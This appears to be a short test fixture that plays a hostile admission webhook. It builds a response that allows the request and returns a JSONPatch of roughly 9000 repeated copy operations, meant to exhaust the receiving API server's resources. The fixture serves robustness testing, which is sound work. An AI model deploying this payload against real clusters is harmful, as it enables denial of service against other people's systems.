// Tries to have the object copied ten thousand times, once for each of its copies of nothing.
#include "hostile.h"

ATTACK {
  say(HEAD "\"uid\":\"");
  say_uid();
  say("\",\"allowed\":true,\"patchType\":\"JSONPatch\",\"patch\":\"");
  say_base64("[{\"op\":\"add\",\"path\":\"/a\",\"value\":0},");
  repeat("eyJvcCI6ImNvcHkiLCJmcm9tIjoiL2EiLCJwYXRoIjoiL2IifSwg", 9000);
  say_base64("{\"op\":\"copy\",\"from\":\"/a\",\"path\":\"/b\"}]");
  say("\"" TAIL);
}
